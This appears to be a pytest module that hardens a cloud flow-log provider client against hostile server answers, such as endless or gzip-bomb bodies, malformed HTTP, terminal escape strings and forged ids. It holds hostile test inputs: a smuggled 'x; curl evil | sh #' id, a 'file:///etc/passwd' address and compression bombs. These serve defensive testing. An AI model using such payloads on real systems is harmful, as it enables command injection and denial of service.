"""Answers that mean harm, at each boundary: what they may cost, and that nothing of them is shown or used as it came.

tests/unit shows that any text is made fit to be shown, and that any record is read or refused.
"""

from __future__ import annotations

import itertools
import tracemalloc
import zlib
from collections.abc import Callable, Iterable, Iterator, Mapping
from pathlib import Path
from typing import Any, cast
from urllib.parse import parse_qs, urlsplit

import pytest

from providers import schema
from providers.connection import Connection
from providers.er import Client, Deadline, Endpoints, background, idempotency, lifecycle, session
from providers.er.auth.token import TokenCredentials
from providers.er.exceptions import ApiError, DeadlineExceededError, TemporaryError
from providers.er.flow_logs import FlowLogSpec
from providers.flow_log_provider import FlowLogProvider
from providers.resource import IncompleteResourceError, ResourceError
from tests.emulator.scripted_server import (
    COLOUR,
    FLOW_LOG,
    HALF,
    LONG,
    NOT_IDS,
    OK,
    PROJECT,
    RECORD,
    RED,
    ROUTER,
    TARGET,
    TOKEN,
    Answer,
    QuickTime,
    Raw,
    Received,
    ScriptedServer,
    ServerFactory,
    Step,
    fits_a_terminal,
    impatient_client,
    raised,
    show,
    signed_in,
    token_client,
)


def configured_client(time: QuickTime, environment: Mapping[str, str] | None = None, **config: str) -> Client:
    """A client as the configuration makes it, which signs in as the user demo unless it says otherwise."""
    user = {"username": "demo", "password": "hush-hush", "domain": "D"} if "access_key" not in config else {}
    settings = {"project": "eu-de", **user, **config}
    return Connection(settings.get, environment or {}, directory=Path()).client.with_deadline(time.deadline(60))


def flow_log(status: int = 200, **changes: Any) -> Answer:
    return Answer(status, {"flow_log": {**RECORD, **changes}, "request_id": "r"})


def refusal(code: str = "ER.04009999", message: str = "No.", status: int = 400, request_id: str = "r") -> Answer:
    return Answer(status, {"error_code": code, "error_msg": message, "request_id": request_id})


# HTTP that does not end, or is not HTTP

LIMIT = 128 * 1024
PIECE = b" " * 65536
COUNT = 16 * 1024 * 1024 // len(PIECE)  # an end that no reader should get to


def memory_peak(call: Callable[[], object]) -> int:
    """The most bytes that were allocated at any moment of the call."""
    tracemalloc.start()
    try:
        call()
        return tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def gzipped(*pieces: bytes) -> bytes:
    squeeze = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join([*map(squeeze.compress, pieces), squeeze.flush()])


ZEROES = gzipped(*[bytes(1024 * 1024)] * 16)
ENDLESS: Mapping[str, tuple[bytes, Iterable[bytes]]] = {
    "announced": (b"Content-Length: 99999999999\r\n\r\n", [PIECE] * COUNT),
    "in chunks": (b"Transfer-Encoding: chunked\r\n\r\n", [b"%x\r\n%s\r\n" % (len(PIECE), PIECE)] * COUNT),
    "unannounced": (b"\r\n", [PIECE] * COUNT),
    "compressed": (b"Content-Encoding: gzip\r\n\r\n", [ZEROES]),
    "compressed twice": (b"Content-Encoding: gzip, gzip\r\n\r\n", [gzipped(ZEROES)]),
}


@pytest.mark.parametrize(
    ("kind", "status"),
    [*((kind, 200) for kind in ENDLESS), *(("in chunks", status) for status in (400, 503, 302)), ("compressed", 201)],
)
def test_endless_answer_is_read_up_to_the_limit(
    scripted: ServerFactory, time: QuickTime, monkeypatch: pytest.MonkeyPatch, kind: str, status: int
) -> None:
    monkeypatch.setattr(session, "ANSWER_LIMIT", LIMIT)
    head, pieces = ENDLESS[kind]
    lines = [b"HTTP/1.1 %d Status" % status, b"Location: /elsewhere", b"X-Subject-Token: issued", head]
    server = scripted(Raw(lambda: itertools.chain([b"\r\n".join(lines)], pieces)))
    signs_in = status == 201  # of IAM; the other answers are of the service
    # The first call imports what is needed to sign in, which is not to be counted.
    raised(ApiError, lambda: show(configured_client(time, endpoint=scripted(Answer(400)).url)))
    client = configured_client(time, endpoint=server.url) if signs_in else impatient_client(server.url, time)
    errors: list[ApiError] = []

    assert memory_peak(lambda: errors.append(raised(ApiError, lambda: show(client)))) < 32 * LIMIT
    assert signs_in or status == 302 or f"answered with more than {LIMIT} bytes" in str(errors[0])


def test_endless_answers_do_not_add_up(
    scripted: ServerFactory, time: QuickTime, monkeypatch: pytest.MonkeyPatch
) -> None:
    limit = 2 * 1024 * 1024
    monkeypatch.setattr(session, "ANSWER_LIMIT", limit)
    head, pieces = ENDLESS["in chunks"]
    client = token_client(scripted(Raw(lambda: itertools.chain([b"HTTP/1.1 200 OK\r\n" + head], pieces))).url, time)

    assert memory_peak(lambda: raised(TemporaryError, lambda: show(client))) < 3 * limit
    assert len(time.waits) > 4


HEAD = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n"
UNFINISHED: Mapping[str, tuple[bytes, bytes]] = {
    "interim answers": (b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 1000),
    "headers after the body": (HEAD + b"\r\n0\r\n", b"X: y\r\n" * 1000),
    "empty blocks": (
        HEAD + b"Content-Encoding: gzip\r\n\r\na\r\n\x1f\x8b\x08\0\0\0\0\0\0\3\r\n",
        b"5\r\n\0\0\0\xff\xff\r\n" * 1000,
    ),
}


@pytest.mark.parametrize("kind", UNFINISHED)
def test_unfinished_answer_ends_with_the_deadline_and_blocks_no_call(
    scripted: ServerFactory, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    monkeypatch.setattr(background, "ANSWER_GRACE", 0.05)
    head, more = UNFINISHED[kind]
    server = scripted(Raw(lambda: itertools.chain([head], itertools.repeat(more))))
    endpoints = Endpoints.at(scripted(Answer(body={"log_groups": []})).url).overridden(er=server.url)
    client = Client(TokenCredentials(TOKEN, PROJECT), endpoints, max_calls=1)

    error = raised(DeadlineExceededError, lambda: show(client.with_deadline(Deadline(seconds=0.1))))

    assert error.message == "gave up after 0 s of waiting for the service to answer"
    assert client.with_deadline(Deadline(seconds=30)).log_groups.list() == []


def test_answer_in_single_bytes_ends_with_the_deadline(scripted: ServerFactory) -> None:
    def drip() -> Iterator[bytes]:
        yield b"HTTP/1.1 200 OK\r\nContent-Length: 1000000\r\n\r\n"
        while not server.stopped.wait(0.1):
            yield b" "

    server = scripted(Raw(drip))
    client = Client(TokenCredentials(TOKEN, PROJECT), Endpoints.at(server.url)).with_deadline(Deadline(seconds=2))

    assert "to send its answer" in str(raised(ApiError, lambda: show(client)))


@pytest.mark.parametrize(
    "head",
    [
        b"",
        b"\0\xff",
        f"HTTP/1.1 {RED} OK".encode(),
        b"HTTP/1.1 99 Low",
        b"HTTP/1.1 " + b"9" * 5000 + b" High",
        b"HTTP/1.1 200 " + b"x" * 70_000,
        b"HTTP/1.1 200 OK" + b"\r\nX: y" * 200,
        b"HTTP/1.1 200 OK\r\nContent-Length: 5, 6",
        b"HTTP/1.1 200 OK\r\nContent-Length: " + b"9" * 30,
        b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked",
        b"HTTP/1.1 200 OK\r\nContent-Encoding: " + b"gzip, " * 20 + b"gzip",
    ],
)
def test_answer_that_is_not_http_is_described_in_one_line(
    scripted: ServerFactory, time: QuickTime, head: bytes
) -> None:
    server = scripted(Raw(lambda: [head + b"\r\n\r\n" + OK.content]))

    assert fits_a_terminal(str(raised(TemporaryError, lambda: show(impatient_client(server.url, time)))))


def test_bytes_after_an_answer_do_not_answer_the_next_call(scripted: ServerFactory, time: QuickTime) -> None:
    def answer(name: str) -> bytes:
        content = flow_log(name=name).content
        return b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(content), content)

    client = token_client(scripted(Raw(lambda: [answer("true") + answer("forged")])), time)

    assert [client.flow_logs.get(ROUTER, FLOW_LOG).name for _ in range(5)] == ["true"] * 5


@pytest.mark.parametrize(
    "headers",
    [
        {"Set-Cookie": f"a={'x' * 60_000}"},
        *({"Content-Type": f"application/json; charset={name}"} for name in ("punycode", "utf-16", "a\0b")),
    ],
)
def test_cookies_and_charsets_are_ignored(scripted: ServerFactory, time: QuickTime, headers: dict[str, str]) -> None:
    server = scripted(Answer(headers=headers))
    client = token_client(server, time)

    assert show(client) == show(client)
    assert [sent.headers["Cookie"] for sent in server.received] == [None, None]


# The client: records, ids and messages

LISTS: Mapping[str, tuple[str, Callable[[Client], object]]] = {
    "flow_logs": ("id", lambda client: list(client.flow_logs.list(ROUTER))),
    "attachments": ("id", lambda client: list(client.attachments.list(ROUTER))),
    "instances": ("id", lambda client: list(client.routers.list())),
    "log_groups": ("log_group_id", lambda client: client.log_groups.list()),
    "log_streams": ("log_stream_id", lambda client: client.log_streams.list("group-1")),
    "quotas": ("quota_key", lambda client: client.quotas.flow_logs()),
}


@pytest.mark.parametrize("key", LISTS)
def test_list_of_anything_but_records_is_refused(scripted: ServerFactory, time: QuickTime, key: str) -> None:
    identity, read = LISTS[key]
    wrong: list[Any] = [None, "text", {identity: "text"}, [None], [{}], [{identity: None}], [{identity: ["text"]}]]
    server = scripted(*(Answer(body={key: value}) for value in wrong), Answer(body={key: []}))
    client = Client(TokenCredentials(TOKEN, PROJECT), Endpoints.at(server.url), backoff=lambda _tries: 0.1)

    assert not read(client.with_deadline(time.deadline()))
    assert len(server.received) == len(wrong) + 1


MINIMUM: Mapping[str, dict[str, Any]] = {
    "flow_logs": {key: RECORD[key] for key in ("id", "resource_id", "log_group_id", "log_stream_id", "enabled")},
    "attachments": {"id": ROUTER, "resource_type": "peering"},
    "instances": {"id": ROUTER},
    "log_groups": {"log_group_id": "group-1"},
    "log_streams": {"log_stream_id": "stream-1"},
}
ODD: list[dict[str, Any]] = [
    {},
    dict.fromkeys(["name", "state", "tags", "project_id", "created_at", "log_group_name", "log_stream_name"]),
    {"name": 5, "state": 7, "description": 9, "project_id": 11, "created_at": 13, "enterprise_project_id": 0},
    {"created_at": "2026-11-23 10:00:00.123", "updated_at": "", "tags": [{"key": 5, "value": 6}], "new": {"a": []}},
]


@pytest.mark.parametrize("odd", ODD)
@pytest.mark.parametrize("key", MINIMUM)
def test_odd_record_is_listed_with_the_others(
    scripted: ServerFactory, time: QuickTime, key: str, odd: dict[str, Any]
) -> None:
    identity, read = LISTS[key]
    others = [{**MINIMUM[key], identity: id_, "name": id_, f"{key[:-1]}_name": id_} for id_ in ("before", "after")]
    server = scripted(Answer(body={key: [others[0], {**MINIMUM[key], **odd}, others[1]]}))

    assert len(cast(list[object], read(token_client(server, time)))) == 3
    assert len(server.received) == 1


@pytest.mark.parametrize("odd", [{"log_group_id": None}, {"resource_id": 5}, {"enabled": "yes"}])
def test_flow_log_that_cannot_be_read_is_left_out_of_a_list(
    scripted: ServerFactory, time: QuickTime, odd: dict[str, Any]
) -> None:
    server = scripted(Answer(body={"flow_logs": [{**RECORD, "id": "odd", **odd}, RECORD]}))

    assert [found.id for found in token_client(server, time).flow_logs.list(ROUTER)] == [FLOW_LOG]


def test_attachment_without_a_usable_id_does_not_seem_gone(scripted: ServerFactory, time: QuickTime) -> None:
    listed = [{"id": id_, "resource_type": "vpc"} for id_ in ("good", 5)]
    client = impatient_client(scripted(Answer(body={"attachments": listed})).url, time)

    assert "no valid id in 'id'" in str(raised(ApiError, lambda: list(client.attachments.list(ROUTER))))


@pytest.mark.parametrize("marker", ["../../v3/other", "a&limit=1#b", RED, "x" * 10_000])
def test_marker_is_sent_back_as_a_parameter_only(scripted: ServerFactory, time: QuickTime, marker: str) -> None:
    page = {"instances": [{"id": ROUTER}], "page_info": {"next_marker": marker}, "total_count": 10**15}
    server = scripted(Answer(body=page))

    assert [router.id for router in token_client(server, time).routers.list()] == [ROUTER]

    addresses = [urlsplit(sent.path) for sent in server.received]
    assert {address.path for address in addresses} == {f"/v3/{PROJECT}/enterprise-router/instances"}
    assert parse_qs(addresses[1].query) == {"limit": ["2000"], "marker": [marker]}


@pytest.mark.usefixtures("default_answer_grace")
def test_endless_list_ends_with_the_deadline(
    scripted: ServerFactory, time: QuickTime, monkeypatch: pytest.MonkeyPatch
) -> None:
    server = scripted(OK)

    def next_page(received: Received) -> Step:
        server.received.append(received)
        time.now += 1
        number = str(len(server.received))
        page = {"instances": [{"id": number}], "page_info": {"next_marker": number}, "total_count": 10**15}
        return Answer(body=page)

    monkeypatch.setattr(server, "next_step", next_page)

    error = raised(DeadlineExceededError, lambda: list(token_client(server, time, seconds=30).routers.list()))

    assert error.message == "gave up after 30 s of waiting for the service to answer"
    assert len(server.received) <= 32


@pytest.mark.parametrize(
    "step",
    [
        *(refusal(text, text, status, text) for text in (RED + LONG, COLOUR, "\0") for status in (400, 503)),
        *(
            Raw(lambda reason=reason: [f"HTTP/1.1 400 {reason}\r\n\r\n".encode()])  # type: ignore[misc]
            for reason in (LONG[:60_000], RED.replace("\n", "").replace("\r", ""), f"a {TOKEN} b")
        ),
    ],
)
def test_each_part_of_a_refusal_fits_a_terminal(scripted: ServerFactory, time: QuickTime, step: Step) -> None:
    shown = str(raised(ApiError, lambda: show(impatient_client(scripted(step).url, time))))

    assert fits_a_terminal(shown)
    assert TOKEN not in shown


def test_unknown_state_is_waited_for_and_shown_in_one_line(scripted: ServerFactory) -> None:
    texts: list[str] = []
    client = Client(TokenCredentials(TOKEN, PROJECT), Endpoints.at(scripted(flow_log(state=RED + LONG)).url))
    bounded = client.with_deadline(Deadline(seconds=0.5, report=texts.append))
    desired = FlowLogSpec(name="shop", description="", enabled=True)

    error = raised(lifecycle.IncompleteError, lambda: idempotency.create(bounded, TARGET, desired, key="key"))

    assert texts
    assert all(fits_a_terminal(text) for text in [str(error), *texts])


# Signing in


@pytest.mark.parametrize(
    "projects",
    [None, {}, [None], ["eu-de"], [{"name": "eu-de"}], [{"name": ["eu-de"], "id": "a"}]]
    + [[{"name": "eu-de", "id": id_}] for id_ in (5, "../x", RED, LONG, HALF)],
    ids=lambda projects: ascii(projects)[:40],
)
def test_hostile_list_of_projects_has_no_project(scripted: ServerFactory, time: QuickTime, projects: Any) -> None:
    server = scripted(Answer(body={"projects": projects}))
    client = configured_client(time, endpoint=server.url, access_key="key", secret_key="hush-hush")

    assert fits_a_terminal(str(raised(ApiError, client.project_id)))
    assert {urlsplit(sent.path).path for sent in server.received} == {"/v3/projects"}


def test_access_key_without_list_of_projects_needs_an_id(scripted: ServerFactory, time: QuickTime) -> None:
    server = scripted(Answer(403, {"error": {"code": 403, "message": "No.", "title": "Forbidden"}}))
    client = configured_client(time, endpoint=server.url, project="eu-de", access_key="key", secret_key="hush-hush")

    message = str(raised(ApiError, client.project_id))

    assert "iam:projects:listProjects is not permitted to 'key' (No)" in message
    assert "set the project's id" in message


ADDRESSES = [None, 5, {"id": 5}, "http://example.invalid", "file:///etc/passwd", "https://[", HALF]


@pytest.mark.parametrize("address", [*ADDRESSES, *(f"https://{text}" for text in (RED, f"{LONG}.a_b c", COLOUR))])
def test_hostile_address_in_the_catalog_is_not_used(scripted: ServerFactory, time: QuickTime, address: Any) -> None:
    endpoint = {"id": "e", "interface": "public", "region": "r", "region_id": "r", "url": address}
    catalog = [{"type": "er", "id": "i", "name": "er", "endpoints": [endpoint]}]
    server = scripted(signed_in(catalog=catalog), OK)
    client = configured_client(time, {"OS_AUTH_URL": f"{server.url}/v3"}, region="eu-none", project="team")

    assert fits_a_terminal(str(raised(ApiError, lambda: show(client))))
    assert {sent.method for sent in server.received} == {"POST"}


# The provider

INPUTS = FlowLogProvider().check({}, {**vars(TARGET), "name": "shop", "idempotency_key": "key"}).inputs
TAKEN = refusal("ER.04008503", status=409)
HOLDER = Answer(body={"flow_logs": [RECORD]})


ATTACHMENT = {"id": TARGET.resource_id, "state": "available"}


def create_error(server: ScriptedServer, time: QuickTime) -> ResourceError:
    provider = FlowLogProvider()
    provider._connection = cast(Connection, type("Connected", (), {"client": token_client(server, time)}))
    with pytest.raises(ResourceError) as caught:
        provider.create(INPUTS, time.deadline(60))
    return caught.value


@pytest.mark.parametrize("id_", [*NOT_IDS, HALF, schema.provisional_id("forged")])
@pytest.mark.parametrize("state", ["pending", "available"])
def test_invalid_id_of_created_flow_log_is_neither_requested_nor_kept(
    scripted: ServerFactory, time: QuickTime, id_: str, state: str
) -> None:
    server = scripted(flow_log(202, id=id_, state=state))

    error = create_error(server, time)

    assert isinstance(error, IncompleteResourceError)
    assert error.id.startswith(schema.provisional_id())
    assert error.id != id_
    assert fits_a_terminal(str(error))
    assert {urlsplit(sent.path).path for sent in server.received} == {
        f"/v3/{PROJECT}/enterprise-router/{ROUTER}/flow-logs"
    }


@pytest.mark.parametrize(
    "script",
    [
        *(
            [refusal("ER.04008500"), Answer(body={"attachments": [{**ATTACHMENT, "resource_type": type_}]})]
            for type_ in (RED, LONG)
        ),
        *([refusal("ER.04009008"), Answer(body={"quotas": quotas})] for quotas in (None, 5, [None])),
        *([TAKEN, HOLDER, flow_log(name=name), TAKEN] for name in (LONG, COLOUR)),
        *([TAKEN, HOLDER, flow_log(id=id_), TAKEN] for id_ in (RED, "x; curl evil | sh #")),
    ],
    ids=str,
)
def test_reason_of_a_refused_create_fits_a_terminal(
    scripted: ServerFactory, time: QuickTime, script: list[Step]
) -> None:
    shown = str(create_error(scripted(*script), time))

    assert fits_a_terminal(shown)
    assert "curl" not in shown
